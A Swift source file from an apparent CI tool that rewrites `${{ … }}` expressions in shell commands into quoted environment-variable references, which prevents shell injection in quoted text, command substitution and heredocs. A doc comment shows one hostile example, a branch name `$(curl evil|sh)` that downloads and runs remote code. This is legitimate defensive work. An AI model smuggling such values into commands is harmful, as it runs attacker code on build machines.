/// Keeps expressions out of shell command text.
///
/// `run: "docker build -t api:${{ run.sha }}"` is never sent to the shell with
/// the value pasted in (a branch named `$(curl evil|sh)` would run). Instead
/// each `${{ … }}` becomes a reference to an environment variable that will
/// carry the value, with `GANTRY_EXPR_1` bound to `run.sha` when the step runs.
///
/// The reference is written so that the value stays one word, never re-parsed,
/// wherever the expression sits:
/// - unquoted: `api:${{ run.sha }}` → `api:"${GANTRY_EXPR_1}"`;
/// - in double quotes: `"v=${{ x }}"` → `"v=${GANTRY_EXPR_1}"`;
/// - in single quotes, where nothing expands: `'v=${{ x }}'` → `'v='"${GANTRY_EXPR_1}"''`;
/// - in a heredoc body (expanded, not word-split): `${GANTRY_EXPR_1}`.
/// A heredoc with a quoted delimiter (`<<'EOF'`) expands nothing: an expression
/// there is reported in `unexpandable` rather than silently printed as written.
public enum ShellExpressions {
    /// The rewritten command and, for each variable, the expression whose value it carries.
    public struct Rewritten: Sendable, Equatable {
        public var command: String
        public var variables: [(name: String, expression: String)]
        /// Expressions where the shell expands nothing (a quoted heredoc), by line (from 1).
        public var unexpandable: [(line: Int, expression: String)]

        public init(command: String, variables: [(name: String, expression: String)], unexpandable: [(line: Int, expression: String)] = []) {
            self.command = command
            self.variables = variables
            self.unexpandable = unexpandable
        }

        public static func == (a: Rewritten, b: Rewritten) -> Bool {
            a.command == b.command && a.variables.map(\.name) == b.variables.map(\.name)
                && a.variables.map(\.expression) == b.variables.map(\.expression)
                && a.unexpandable.map(\.line) == b.unexpandable.map(\.line)
                && a.unexpandable.map(\.expression) == b.unexpandable.map(\.expression)
        }
    }

    private enum Context: Equatable {
        /// Top level, or inside `$( … )` / `( … )` (a new quoting level).
        case plain
        case single
        case double
        /// Inside a heredoc body until the line `delimiter`; `expands` unless the delimiter was quoted.
        case heredoc(delimiter: String, expands: Bool, stripTabs: Bool)
    }

    /// Rewrites every `${{ expression }}` in `command`; the same expression twice shares one variable.
    public static func rewrite(_ command: String) -> Rewritten {
        guard command.contains("${{") else { return Rewritten(command: command, variables: []) }
        var output = ""
        var variables: [(name: String, expression: String)] = []
        var unexpandable: [(line: Int, expression: String)] = []
        var stack: [Context] = [.plain]
        var pendingHeredocs: [Context] = []
        var line = 1
        let chars = Array(command)
        var i = 0

        func variable(for expression: String) -> String {
            if let existing = variables.first(where: { $0.expression == expression }) { return existing.name }
            let name = "GANTRY_EXPR_\(variables.count + 1)"
            variables.append((name, expression))
            return name
        }
        func startsWith(_ text: String, at index: Int) -> Bool {
            let pattern = Array(text)
            guard index + pattern.count <= chars.count else { return false }
            return Array(chars[index..<index + pattern.count]) == pattern
        }

        /// At the start of a line: enter the next pending heredoc, and leave heredocs whose
        /// delimiter line this is (an empty body ends at once).
        func startLine() {
            if case .heredoc? = stack.last {} else if !pendingHeredocs.isEmpty {
                stack.append(pendingHeredocs.removeFirst())
            }
            while case .heredoc(let delimiter, _, let stripTabs)? = stack.last {
                var end = i
                while end < chars.count, chars[end] != "\n", chars[end] != "\r\n" { end += 1 }
                var candidate = Substring(String(chars[i..<end]))
                if stripTabs { candidate = candidate.drop { $0 == "\t" } }
                guard candidate == delimiter else { return }
                output += String(chars[i..<end])
                i = end
                stack.removeLast()
                guard !pendingHeredocs.isEmpty else { return }
                stack.append(pendingHeredocs.removeFirst())
            }
        }

        while i < chars.count {
            // An expression, wherever it is.
            if startsWith("${{", at: i), let close = (i + 3..<chars.count).first(where: { startsWith("}}", at: $0) }) {
                let expression = String(String(chars[(i + 3)..<close]).trimmingSpaces())
                switch stack.last! {
                case .plain: output += "\"${\(variable(for: expression))}\""
                case .double: output += "${\(variable(for: expression))}"
                case .single: output += "'\"${\(variable(for: expression))}\"'"
                case .heredoc(_, let expands, _):
                    if expands {
                        output += "${\(variable(for: expression))}"
                    } else {
                        unexpandable.append((line, expression))
                        output += String(chars[i..<(close + 2)])
                    }
                }
                i = close + 2
                continue
            }
            let c = chars[i]
            output.append(c)
            i += 1
            switch stack.last! {
            case .heredoc:
                if c == "\n" || c == "\r\n" {
                    line += 1
                    startLine()
                }
            case .single:
                if c == "'" { stack.removeLast() }
                if c == "\n" || c == "\r\n" { line += 1 }
            case .double:
                if c == "\\", i < chars.count {
                    output.append(chars[i])
                    i += 1
                } else if c == "\"" {
                    stack.removeLast()
                } else if c == "$", i < chars.count, chars[i] == "(" {
                    output.append("(")
                    i += 1
                    stack.append(.plain)
                } else if c == "\n" || c == "\r\n" {
                    line += 1
                }
            case .plain:
                switch c {
                case "\\" where i < chars.count:
                    output.append(chars[i])
                    i += 1
                case "'": stack.append(.single)
                case "\"": stack.append(.double)
                case "(": stack.append(.plain)
                case ")" where stack.count > 1: stack.removeLast()
                case "#" where output.dropLast().last.map({ $0 == " " || $0 == "\t" || $0 == "\n" }) ?? true:
                    // A comment runs to the end of the line; expressions in it are left alone.
                    while i < chars.count, chars[i] != "\n", chars[i] != "\r\n" {
                        output.append(chars[i])
                        i += 1
                    }
                case "<" where startsWith("<", at: i) && !startsWith("<<", at: i):
                    output.append("<")
                    i += 1
                    if let (heredoc, end) = heredocOperator(chars, from: i) {
                        output += String(chars[i..<end])
                        i = end
                        pendingHeredocs.append(heredoc)
                    }
                case "\n", "\r\n":
                    line += 1
                    startLine()
                default: break
                }
            }
        }
        return Rewritten(command: output, variables: variables, unexpandable: unexpandable)
    }

    /// After `<<`: the heredoc's delimiter (`-` strips leading tabs; any quoting means
    /// the body is not expanded) and where the operator ends.
    private static func heredocOperator(_ chars: [Character], from start: Int) -> (Context, Int)? {
        var i = start
        var stripTabs = false
        if i < chars.count, chars[i] == "-" {
            stripTabs = true
            i += 1
        }
        while i < chars.count, chars[i] == " " || chars[i] == "\t" { i += 1 }
        var delimiter = ""
        var quoted = false
        var quote: Character?
        while i < chars.count {
            let c = chars[i]
            if let q = quote {
                if c == q { quote = nil } else { delimiter.append(c) }
            } else if c == "'" || c == "\"" {
                quote = c
                quoted = true
            } else if c == "\\" {
                quoted = true
            } else if c == " " || c == "\t" || c == "\n" || c == "\r\n" || c == ";" || c == "|" || c == "&" || c == ")" || c == "<" || c == ">" {
                break
            } else {
                delimiter.append(c)
            }
            i += 1
        }
        // A number is a shift in arithmetic (`$(( 1 << 2 ))`), not a delimiter.
        guard !delimiter.isEmpty, !delimiter.allSatisfy(\.isNumber) else { return nil }
        return (.heredoc(delimiter: delimiter, expands: !quoted, stripTabs: stripTabs), i)
    }
}

